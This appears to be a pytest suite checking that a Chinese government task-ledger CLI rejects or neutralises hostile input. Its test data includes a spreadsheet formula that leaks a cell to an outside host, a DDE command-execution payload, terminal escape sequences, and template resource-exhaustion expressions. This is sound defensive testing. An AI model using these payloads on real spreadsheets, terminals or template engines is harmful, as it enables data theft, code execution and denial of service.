"""Hostile input at every edge: what each gets is an exact message, never a traceback.

The README's "Guarantees" names these tests; each reproduces an item of the hardening
issue in a small ledger and asserts the exact output.
"""

from __future__ import annotations

import json
import os
import re
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import DEPARTMENTS, TASKS
from zctasks.files import limits
from zctasks.files.errors import NotAFile

# ---------------------------------------------------------------- numbers and sizes

HUGE_INT = "1" + "0" * 4999


def _with_value(value: str) -> str:
    assert TASKS.count("value: 8000,") == 1
    return TASKS.replace("value: 8000,", f"value: {value},")


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (HUGE_INT, "数值超出范围（10000000000000000000……共 5000 个字符）"),
        ("0x" + "f" * 3000, "数值超出范围（0xffffffffffffffffff……共 3002 个字符）"),
        ("9223372036854775808", "数值超出范围（9223372036854775808）"),
        ("-9223372036854775809", "数值超出范围（-9223372036854775809）"),
        ("1e999", "数值超出范围（1e999）"),
        ("-1e999", "数值超出范围（-1e999）"),
    ],
)
def test_a_number_out_of_range_gets_a_located_message(zc, make_ledger, value, message):
    result = zc("check", root=make_ledger(tasks=_with_value(value)))
    assert (result.exit_code, result.stderr) == (1, "")
    assert result.stdout == (
        f"data/tasks.yaml:29:52: error[number-range]: {message}\n"
        "  提示：整数最多 19 位（±9223372036854775807），小数须为有限值；"
        "确需写成文字的，加引号\n"
        "检查未通过：1 个错误，0 个警告。\n"
    )


def test_the_largest_integer_is_still_read(zc, make_ledger):
    result = zc(
        "show", "2", "-f", "json", root=make_ledger(tasks=_with_value("9223372036854775807"))
    )
    assert result.exit_code == 0, result.stderr
    assert '"value": 9223372036854775807,' in result.stdout


def test_every_yaml_file_has_the_one_size_limit(zc, make_ledger, monkeypatch):
    monkeypatch.setattr(limits, "MAX_BYTES", 1500)
    root = make_ledger(departments="units: {}\n" + "# 填充\n" * 200)
    result = zc("check", root=root)
    assert result.exit_code == 1
    assert result.stdout.startswith(
        "data/departments.yaml:1:1: error[too-large]: 文件过大（1810 字节，上限 1500 字节）\n"
        "  提示：台账文件、批量文件、模板和报告都不能超过 64 MiB；请检查是否放错了文件\n"
    )


def test_bounded_read_names_the_file_and_stops_at_the_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "MAX_BYTES", 10)
    small, big = tmp_path / "small.txt", tmp_path / "big.txt"
    small.write_bytes(b"0123456789")
    big.write_bytes(b"x" * 11)
    assert limits.read_bounded(small) == b"0123456789"
    with pytest.raises(limits.InputTooLarge) as caught:
        limits.read_bounded(big, "data/big.txt")
    assert caught.value.message == "data/big.txt：文件过大（11 字节，上限 10 字节）"
    assert caught.value.diagnostic().render() == (
        "data/big.txt:1:1: error[too-large]: 文件过大（11 字节，上限 10 字节）\n"
        "  提示：台账文件、批量文件、模板和报告都不能超过 64 MiB；请检查是否放错了文件"
    )
    with pytest.raises(NotAFile) as refused:  # a device is never read at all
        limits.read_bounded(Path("/dev/zero"), "/dev/zero")
    assert refused.value.message == "/dev/zero：不是普通文件（字符设备），没有读取"


def test_a_file_that_grows_while_it_is_read_is_read_to_its_end_or_refused(tmp_path, monkeypatch):
    """The read asks for the size the file had and a byte more; a file longer by then is
    read on to its end, and one grown past the limit is refused, never cut short."""
    import os

    real = os.fstat

    def earlier(fd: int) -> os.stat_result:  # the size the file had a moment before
        info = list(real(fd))
        info[6] = 3  # st_size
        return os.stat_result(info)

    grown = tmp_path / "2023-07.yaml"
    grown.write_bytes(b"0123456789" * 4)
    monkeypatch.setattr(limits.os, "fstat", earlier)
    assert limits.read_bounded(grown) == b"0123456789" * 4
    monkeypatch.setattr(limits, "MAX_BYTES", 25)
    with pytest.raises(limits.InputTooLarge) as caught:
        limits.read_bounded(grown, "data/progress/2023-07.yaml")
    assert caught.value.message == "data/progress/2023-07.yaml：文件过大（超过上限 25 字节）"


# ---------------------------------------------------------------- spreadsheet formulas

FORMULA = '=HYPERLINK("http://x/?"&A1,"佐证")'


def _add(zc, root, note, task="1", by="区科技局", day="2023-07-10"):
    result = zc("progress", "add", task, "--by", by, "--date", day, "--note", note, root=root)
    assert result.exit_code == 0, result.stderr


def test_the_progress_log_csv_never_starts_a_formula(zc, make_ledger, frozen):
    root = make_ledger()
    _add(zc, root, FORMULA)
    _add(zc, root, "+cmd|' /C calc'!A0", day="2023-08-11")  # one report a cycle
    _add(zc, root, "-1+2", day="2023-09-12")
    result = zc("progress", "log", "-f", "csv", root=root)
    assert result.stdout == (
        "\ufeff编号,日期,任务,单位,状态,指标,进展,说明\n"
        '2023-07-10-1-abc123,2023-07-10,1,区科技局,推进中,,"\'=HYPERLINK(""http://x/?""&A1,""佐证"")",\n'
        "2023-08-11-1-abc123,2023-08-11,1,区科技局,推进中,,'+cmd|' /C calc'!A0,\n"
        "2023-09-12-1-abc123,2023-09-12,1,区科技局,推进中,,'-1+2,\n"
    )
    notes = [e["note"] for e in json.loads(zc("progress", "log", "-f", "json", root=root).stdout)]
    assert notes == [FORMULA, "+cmd|' /C calc'!A0", "-1+2"]  # JSON stays exact


def test_list_chapters_and_depts_csv_never_start_a_formula(zc, make_ledger):
    tasks = TASKS.replace("title: 建设创新平台", "title: '@SUM(A1:A9)'").replace(
        "title: 科技创新}", "title: '=1+2'}"
    )
    departments = DEPARTMENTS.replace(
        "区水利局: {kind: 政府工作部门}", "区水利局: {kind: 政府工作部门, full_name: '-2+3'}"
    )
    root = make_ledger(tasks=tasks, departments=departments)
    assert zc("list", "-c", "1", "-f", "csv", root=root).stdout == (
        "\ufeff序号,章,任务,牵头/负责,配合,指标\n1,1,'@SUM(A1:A9),区科技局,区发改局等,2\n"
    )
    assert zc("chapters", "-f", "csv", root=root).stdout == (
        "\ufeff章,标题,任务数,任务序号,指标数\n一,'=1+2,1,1,2\n二,绿色发展,2,2、3,1\n"
    )
    assert "区水利局,'-2+3,政府工作部门,0,0,1,1\n" in zc("depts", "-f", "csv", root=root).stdout
    task = json.loads(zc("show", "1", "-f", "json", root=root).stdout)
    assert (task["title"], task["chapter_title"]) == ("@SUM(A1:A9)", "=1+2")


# ---------------------------------------------------------------- terminal escapes

ESCAPES = "\x1b[2J\x1b]0;标题\x07红\x1b[31m字\u202e反向\x9b1m"
SHOWN = "\\x1b[2J\\x1b]0;标题\\x07红\\x1b[31m字\\u202e反向\\x9b1m"


def test_control_characters_in_a_note_are_shown_escaped_in_tables(zc, make_ledger, frozen):
    root = make_ledger()
    _add(zc, root, ESCAPES + "\n第二行\t完")
    log = zc("progress", "log", root=root).stdout
    assert log == (
        "进展记录 1 条\n\n"
        "编号                 日期        任务  单位      状态    指标  进展" + " " * 60 + "说明\n"
        "-------------------  ----------  ----  --------  ------  ----  " + "-" * 62 + "  ----\n"
        f"2023-07-10-1-abc123  2023-07-10     1  区科技局  推进中        {SHOWN}\\n第二行\\t完\n"
    )
    shown = zc("show", "1", "--as-of", "2023-07-31", root=root).stdout
    assert f"2023-07-10  区科技局  推进中        {SHOWN}\\n第二行\\t完\n" in shown
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    markdown = zc("progress", "log", "-f", "md", root=root).stdout
    assert f"| {SHOWN} 第二行 完 |" in markdown and "\x1b" not in markdown
    entry = json.loads(zc("progress", "log", "-f", "json", root=root).stdout)[0]
    assert entry["note"] == ESCAPES + "\n第二行\t完"  # JSON stays exact


def test_control_characters_in_the_plan_are_shown_escaped(zc, make_ledger):
    tasks = TASKS.replace(
        "text: 全区年度用水总量控制在8000万立方米之内。",
        'text: "全区\\e[2J年度用水总量\\n控制在8000万立方米之内。"',
    ).replace("title: 节约用水", 'title: "节约\\e]0;x\\a用水"')
    root = make_ledger(tasks=tasks)
    shown = zc("show", "2", "--as-of", "2023-07-31", root=root).stdout
    assert shown.startswith(
        "第2项  节约\\x1b]0;x\\x07用水\n章节：二、绿色发展\n负责：区水利局\n原文分工：（区水利局负责）\n\n"
        "全区\\x1b[2J年度用水总量\n控制在8000万立方米之内。\n"
    )
    assert "   2   2  节约\\x1b]0;x\\x07用水  区水利局（负责）" in zc("list", root=root).stdout
    markdown = zc("show", "2", "-f", "md", "--as-of", "2023-07-31", root=root).stdout
    assert markdown.startswith(
        "## 2. 节约\\x1b]0;x\\x07用水\n\n- 章节：二、绿色发展\n- 负责：区水利局\n"
        "- 原文分工：（区水利局负责）\n\n全区\\x1b[2J年度用水总量\n控制在8000万立方米之内。\n"
    )
    assert "\x1b" not in markdown


def test_terminal_tables_show_control_characters_escaped(monkeypatch):
    from io import StringIO

    from zctasks.cli.output import print_table

    buffer = StringIO()
    buffer.isatty = lambda: True  # type: ignore[method-assign]
    monkeypatch.setattr(sys, "stdout", buffer)
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setenv("NO_COLOR", "1")
    print_table(["进展"], [[ESCAPES + "\n第二行"]], title="标题\x1b[5m")
    drawn = buffer.getvalue()
    visible = drawn.replace("\x1b[1m", "").replace("\x1b[0m", "").replace("\x1b[3m", "")
    assert "\x1b" not in visible and "\x07" not in visible and "\u202e" not in visible
    assert f"{SHOWN}\\n第二行" in visible and "标题\\x1b[5m" in visible


def test_control_characters_in_messages_are_shown_escaped(zc, make_ledger):
    root = make_ledger(tasks=TASKS.replace("lead: [区科技局]", 'lead: ["区科技\\e[2J局"]'))
    check = zc("check", root=root)
    assert check.stdout == (
        "data/tasks.yaml:16:12: error[unknown-unit]: 未知单位“区科技\\x1b[2J局”\n"
        "  提示：是否是：区科技局？新单位请先加入 data/departments.yaml\n"
        "检查未通过：1 个错误，0 个警告。\n"
    )
    listed = zc("list", root=root)
    assert (listed.exit_code, listed.stdout) == (1, "")
    assert listed.stderr == (
        "错误：台账数据有 1 处错误\n"
        "data/tasks.yaml:16:12: error[unknown-unit]: 未知单位“区科技\\x1b[2J局”\n"
        "  提示：是否是：区科技局？新单位请先加入 data/departments.yaml\n"
        "提示：运行 zctasks check 查看并修正\n"
    )
    diagnostics = json.loads(zc("check", "-f", "json", root=root).stdout)["diagnostics"]
    assert diagnostics[0]["message"] == "未知单位“区科技\x1b[2J局”"  # JSON stays exact
    unknown = zc("list", "--dept", "\x1b]0;x\x07", root=make_ledger())
    assert unknown.exit_code == 2
    assert unknown.stderr.startswith("错误：未知单位“\\x1b]0;x\\x07”")


def test_reports_drop_control_characters(zc, make_ledger):
    root = make_ledger()
    _add(zc, root, ESCAPES, task="3", by="区发改局")  # no targets: the note is what it reports
    result = zc("report", "briefing", "--since", "2023-07-01", "--until", "2023-07-31", root=root)
    assert result.exit_code == 0, result.stderr
    assert "\\[2J\\]0;标题红\\[31m字反向1m。" in result.stdout
    assert not set(result.stdout) & set("\x1b\x07\x9b\u202e")


# ---------------------------------------------------------------- where -o writes

LEDGER_REPORT = ("report", "ledger", "--as-of", "2023-07-31")


def _report_to(zc, root, target):
    return zc(*LEDGER_REPORT, "-o", str(target), root=root)


def test_an_earlier_report_is_replaced_atomically_keeping_its_mode(zc, one_entry, tmp_path):
    earlier = tmp_path / "台账.md"
    earlier.write_text("上一版\n", "utf-8")
    earlier.chmod(0o640)
    result = _report_to(zc, one_entry, earlier)
    assert (result.exit_code, result.stderr) == (0, f"已生成 {earlier}\n")
    assert earlier.read_text("utf-8").startswith("# ")
    assert oct(earlier.stat().st_mode & 0o777) == "0o640"
    assert not list(tmp_path.glob(".tmp-*"))


def _refused(zc, root, target, message, hint):
    result = _report_to(zc, root, target)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == f"错误：{message}\n提示：{hint}\n"


DATA_HINT = (
    "报告不能写进任何台账的 data/、git 的 .git 目录或 .gitattributes、.gitignore 等文件；"
    "请写到别处，如 -o 简报.docx"
)


def test_output_into_a_ledgers_data_or_git_is_refused(zc, one_entry, tmp_path, monkeypatch):
    month = one_entry / "data" / "progress" / "2023-07.yaml"
    before = month.read_bytes()
    (one_entry / ".git").mkdir()
    (one_entry / ".git" / "config").write_text("[core]\n", "utf-8")
    link = tmp_path / "看起来无害"
    link.symlink_to(one_entry / "data")
    other = tmp_path / "另一个台账" / "data"
    worktree_git = tmp_path / "工作树" / ".git"  # a git worktree's .git is a file
    worktree_git.parent.mkdir()
    worktree_git.write_text("gitdir: /elsewhere\n", "utf-8")
    (other / "progress").mkdir(parents=True)
    (other / "tasks.yaml").write_text(TASKS, "utf-8")
    monkeypatch.chdir(one_entry)
    for target in (
        Path("data/progress/2023-07.yaml"),
        Path("data/tasks.yaml"),
        Path("data/新报告.md"),
        Path(".git/config"),
        Path(".gitattributes"),
        Path(".GITIGNORE"),
        worktree_git,
        link / "progress" / "2023-07.yaml",
        link / "新报告.md",
        other / "progress" / "x.md",
    ):
        _refused(
            zc,
            one_entry,
            target,
            f"输出路径 {target} 在台账数据或 git 目录中，或是 git 的设置文件",
            DATA_HINT,
        )
    assert month.read_bytes() == before
    assert (one_entry / ".git" / "config").read_text("utf-8") == "[core]\n"
    assert not (one_entry / "data" / "新报告.md").exists()
    assert worktree_git.read_text("utf-8") == "gitdir: /elsewhere\n"


def test_output_to_anything_but_a_regular_file_is_refused(zc, one_entry, tmp_path):
    outside = tmp_path / "别处.md"
    outside.write_text("原样\n", "utf-8")
    symlink = tmp_path / "链接.md"
    symlink.symlink_to(outside)
    fifo = tmp_path / "管道"
    os.mkfifo(fifo)
    _refused(
        zc, one_entry, symlink, f"输出路径 {symlink} 是符号链接，不会替换", "请给出普通文件的路径"
    )
    assert symlink.is_symlink() and outside.read_text("utf-8") == "原样\n"
    hint = "-o 只写普通文件；要输出到屏幕或管道，不加 -o"
    _refused(zc, one_entry, fifo, f"输出路径 {fifo} 不是普通文件（命名管道）", hint)
    if os.geteuid() == 0:  # a device node of our own, never the machine's /dev/null
        device = tmp_path / "null"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        _refused(zc, one_entry, device, f"输出路径 {device} 不是普通文件（字符设备）", hint)
        assert stat.S_ISCHR(device.lstat().st_mode)


def test_a_read_only_file_is_not_replaced(zc, one_entry, tmp_path):
    locked = tmp_path / "定稿.md"
    locked.write_text("定稿\n", "utf-8")
    locked.chmod(0o444)
    _refused(
        zc,
        one_entry,
        locked,
        f"输出文件 {locked} 是只读的，不会替换",
        "换一个文件名，或先把它改为可写",
    )
    assert locked.read_text("utf-8") == "定稿\n"
    assert oct(locked.stat().st_mode & 0o777) == "0o444"


# ---------------------------------------------------------------- templates

LIMITS_HINT = "模板渲染有上限：输出不超过 64 MiB，用时不超过 60 秒，重复、乘方、宽度和区间也有上限"


def _template(root, name, text):
    folder = root / "templates"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, "utf-8")


def test_a_template_symlinked_out_of_the_folder_is_not_read(zc, make_ledger, tmp_path):
    root = make_ledger()
    secret = tmp_path / "hostname"
    secret.write_text("机密主机名\n", "utf-8")
    _template(root, "ledger.md.j2", "# 台账\n{% include 'h.md.j2' %}\n")
    (root / "templates" / "h.md.j2").symlink_to(secret)
    result = zc("report", "ledger", root=root)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"错误：模板 h.md.j2 指向模板目录以外（{secret}），不会读取\n"
        "提示：模板须是 templates/ 目录中的文件，不能是指向别处的符号链接\n"
    )
    (root / "templates" / "h.md.j2").unlink()
    (root / "templates" / "h.md.j2").symlink_to(root / "templates" / "part.txt")
    (root / "templates" / "part.txt").write_text("同一目录中的片段\n", "utf-8")
    assert zc("report", "ledger", root=root).stdout == "# 台账\n同一目录中的片段\n"


def test_a_templates_folder_symlinked_out_of_the_ledger_is_not_used(zc, make_ledger, tmp_path):
    root = make_ledger()
    elsewhere = tmp_path / "etc"
    elsewhere.mkdir()
    (elsewhere / "ledger.md.j2").write_text("别处的模板\n", "utf-8")
    (root / "templates").symlink_to(elsewhere)
    result = zc("report", "ledger", root=root)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"错误：台账的 templates 目录指向台账以外（{elsewhere}），不会使用\n"
        "提示：模板须是 templates/ 目录中的文件，不能是指向别处的符号链接\n"
    )


BOUNDED = {
    "repeat text": ("{{ 'x' * 10**10 }}", 1, "重复得到的文字过大（1 × 10000000000 个字符）"),
    "repeat list": ("\n{{ [1, 2] * 10**9 }}", 2, "重复得到的列表过大（2 × 1000000000 项）"),
    "power": ("{{ 7 ** (10**9) }}", 1, "乘方的结果过大（7 ** 1000000000）"),
    "range": ("{{ range(10**9) | length }}", 1, "区间过大（超过 100000 项）"),
    "percent width": ("{{ '%0999999999d' % 1 }}", 1, "格式宽度过大（999999999）"),
    "format filter": ("{{ '%0999999999d' | format(1) }}", 1, "格式宽度过大（999999999）"),
    "format width": ("{{ '{:>999999999}'.format(1) }}", 1, "格式宽度过大（999999999）"),
    "format argument": ("{{ '{:>{}}'.format(1, 10**9) }}", 1, "格式宽度过大（1000000000）"),
    "center method": ("{{ 'x'.center(10**9) }}", 1, "宽度过大（1000000000）"),
    "center filter": ("{{ 'x' | center(10**9) }}", 1, "宽度过大（1000000000）"),
    "batch filter": ("{{ [1] | batch(10**9, 0) | list }}", 1, "宽度过大（1000000000）"),
    "replace": (
        "{% set s = 'x' * 10**7 %}{{ s | replace('x', s) | length }}",
        1,
        "替换得到的文字过大（约 100000000000000 个字符）",
    ),
    "join method": (
        "{% set s = 'x' * 10**7 %}{{ s.join(range(100)|map('string')) | length }}",
        1,
        "连接得到的文字过大（约 990000190 个字符）",
    ),
    "join filter": (
        "{{ range(100) | map('string') | join('x' * 10**7) | length }}",
        1,
        "连接得到的文字过大（约 990000190 个字符）",
    ),
    "doubling": (
        "{% set ns = namespace(s='x' * 2**20) %}{% for i in range(80) %}"
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        1,
        "生成的文字过大（134217728 个字符）",
    ),
    "doubling in a block": (
        "{% set ns = namespace(s='x' * 2**20) %}{% for i in range(80) %}"
        "{% set ns.s %}{{ ns.s }}{{ ns.s }}{% endset %}{% endfor %}",
        1,
        "生成的文字累计过大（超过 134217728 个字符）",
    ),
}


@pytest.mark.parametrize("name", list(BOUNDED))
def test_template_rendering_is_bounded(zc, make_ledger, tmp_path, name):
    source, line, what = BOUNDED[name]
    root = make_ledger()
    evil = tmp_path / "evil.md.j2"
    evil.write_text(source, "utf-8")
    result = zc("report", "ledger", "--template", str(evil), root=root)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == f"错误：模板 {evil}:{line} 超出上限：{what}\n提示：{LIMITS_HINT}\n"


def test_template_rendering_is_bounded_in_time(zc, make_ledger, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "TEMPLATE_SECONDS", 0.5)
    root = make_ledger()
    _template(
        root,
        "ledger.md.j2",
        "# 台账\n\n{% for i in range(100000) %}{% for j in range(100000) %}"
        "{% endfor %}{% endfor %}\n",
    )
    result = zc("report", "ledger", root=root)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"错误：模板 ledger.md.j2:3 超出上限：渲染超过 0.5 秒，已停止\n提示：{LIMITS_HINT}\n"
    )


def test_template_output_is_bounded(zc, make_ledger, monkeypatch):
    monkeypatch.setattr(limits, "MAX_BYTES", 1500)
    root = make_ledger()
    _template(root, "ledger.md.j2", "{% for i in range(400) %}第{{ i }}行\n{% endfor %}")
    result = zc("report", "ledger", root=root)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"错误：模板 ledger.md.j2 超出上限：输出过大（超过 1500 个字符）\n提示：{LIMITS_HINT}\n"
    )


def test_template_errors_name_the_template_and_line(zc, make_ledger, tmp_path):
    root = make_ledger()
    _template(root, "ledger.md.j2", "# 台账\n{% include 'part.md.j2' %}\n")
    _template(root, "part.md.j2", "一\n二\n{{ 1 / 0 }}\n")
    result = zc("report", "ledger", root=root)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        "错误：模板 part.md.j2:3 渲染失败：division by zero\n"
        "提示：检查模板中的变量名；可用的数据见 README “Reports”\n"
    )
    deep = tmp_path / "deep.md.j2"
    deep.write_text("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}", "utf-8")
    result = zc("report", "ledger", "--template", str(deep), root=root)
    assert result.stderr == (
        f"错误：模板 {deep}:1 超出上限：宏或循环的递归过深\n提示：{LIMITS_HINT}\n"
    )


def test_template_files_are_bounded_and_utf8(zc, make_ledger, tmp_path, monkeypatch):
    root = make_ledger()
    _template(root, "ledger.md.j2", "{% include 'big.md.j2' %}")
    _template(root, "big.md.j2", "x" * 3000)
    gbk = tmp_path / "gbk.md.j2"
    gbk.write_bytes("台账".encode("gbk"))
    result = zc("report", "ledger", "--template", str(gbk), root=root)
    assert result.stderr == f"错误：模板 {gbk} 不是 UTF-8 编码\n提示：请把模板另存为 UTF-8\n"
    monkeypatch.setattr(limits, "MAX_BYTES", 2000)  # the plan files are smaller
    result = zc("report", "ledger", root=root)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        "错误：big.md.j2：文件过大（3000 字节，上限 2000 字节）\n"
        "提示：台账文件、批量文件、模板和报告都不能超过 64 MiB；请检查是否放错了文件\n"
    )


def test_a_report_is_bounded_by_the_one_limit(zc, reported, tmp_path, monkeypatch):
    document = tmp_path / "台账.docx"
    assert zc(*LEDGER_REPORT, "-f", "docx", "-o", str(document), root=reported).exit_code == 0
    size = document.stat().st_size
    assert size > 4000
    monkeypatch.setattr(limits, "MAX_BYTES", 4000)  # the Markdown fits, the Word file does not
    result = zc(*LEDGER_REPORT, "-f", "docx", "-o", str(tmp_path / "new.docx"), root=reported)
    assert (result.exit_code, result.stdout) == (1, "")
    # the Word file carries the moment it was made, so its compressed size may differ by a
    # byte from the one made before
    said = re.fullmatch(
        "错误：报告过大（(\\d+) 字节，上限 4000 字节）\n"
        "提示：台账文件、批量文件、模板和报告都不能超过 64 MiB；请检查模板\n",
        result.stderr,
    )
    assert said is not None and abs(int(said.group(1)) - size) < 64
    assert not (tmp_path / "new.docx").exists()


# ---------------------------------------------------------------- a closed pipe


@pytest.mark.parametrize(
    "args",
    [
        ["list", "-f", "json"],  # fills the pipe's buffer while the command runs
        ["chapters"],  # small: written when the interpreter flushes at exit
        ["--version"],
    ],
)
def test_a_closed_pipe_ends_quietly_as_other_tools_do(args):
    """`zctasks … | head` : no message, and the status of a tool killed by SIGPIPE (141)."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "zctasks", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # the reader is gone before zctasks writes a byte
    stderr = proc.stderr.read()
    assert (proc.wait(timeout=60), stderr) == (-signal.SIGPIPE, b"")


# ---------------------------------------------------------------- progress and batches


def test_a_month_file_over_the_limit_is_refused_with_its_name(zc, make_ledger, monkeypatch):
    root = make_ledger()
    (root / "data" / "progress").mkdir(parents=True)
    month = root / "data" / "progress" / "2023-07.yaml"
    line = '- {"id": "2023-07-10-1-%06d", "task": 1, "date": "2023-07-10", "by": "区科技局", "status": "推进中", "note": "甲"}\n'
    month.write_text("".join(line % i for i in range(40)), "utf-8")
    size = month.stat().st_size
    monkeypatch.setattr("zctasks.files.limits.MAX_BYTES", 2000)  # the plan files are smaller
    checked = zc("check", root=root)
    assert checked.exit_code == 1
    assert checked.stdout.startswith(
        f"data/progress/2023-07.yaml:1:1: error[too-large]: 文件过大（{size} 字节，上限 2000 字节）\n"
    )
    assert zc("status", root=root).exit_code == 1
    before = month.read_bytes()
    added = zc(
        "progress",
        "add",
        "1",
        "--by",
        "区科技局",
        "--date",
        "2023-07-11",
        "--note",
        "乙",
        root=root,
    )
    assert added.exit_code == 1 and "error[too-large]" in added.stderr
    assert month.read_bytes() == before


def test_a_batch_over_the_limit_is_refused(zc, make_ledger, tmp_path, monkeypatch):
    root = make_ledger()
    sheet = tmp_path / "大.csv"
    sheet.write_text("任务序号,单位,日期,进展情况\n" + "1,区科技局,2023-07-10,甲\n" * 200, "utf-8")
    monkeypatch.setattr("zctasks.files.limits.MAX_BYTES", 2000)
    result = zc("progress", "import", str(sheet), root=root)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"错误：{sheet}：文件过大（")


def test_a_progress_line_nested_deep_gets_a_message(zc, make_ledger):
    root = make_ledger()
    (root / "data" / "progress").mkdir(parents=True)
    deep = "[" * 100_000 + "]" * 100_000
    (root / "data" / "progress" / "2023-07.yaml").write_text(
        '- {"id": "x", "task": 1, "date": "2023-07-10", "by": "区科技局", "status": "推进中", '
        f'"note": "甲", "values": {{"1.1": {deep}}}}}\n',
        "utf-8",
    )
    for args in (
        ["check"],
        ["status"],
        ["progress", "add", "1", "--by", "区科技局", "--date", "2023-07-11", "--note", "乙"],
    ):
        result = zc(*args, root=root)
        assert result.exit_code == 1, args
        assert (
            "data/progress/2023-07.yaml:1:1107: error[yaml-syntax]" in result.stdout + result.stderr
        )


def test_a_long_unclosed_quote_in_a_csv_gets_a_message(zc, make_ledger, tmp_path):
    root = make_ledger()
    sheet = tmp_path / "长.csv"
    sheet.write_text(
        '任务序号,单位,日期,进展情况\n1,区科技局,2023-07-10,"' + "很长的进展" * 40_000 + "\n",
        "utf-8",
    )
    result = zc("progress", "import", str(sheet), root=root)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[1] == (
        f"{sheet}:2:1: error[csv-quote]: 从第 2 行起无法按 CSV 读取：单元格过长（超过 128 KB），多半是引号没有闭合"
    )
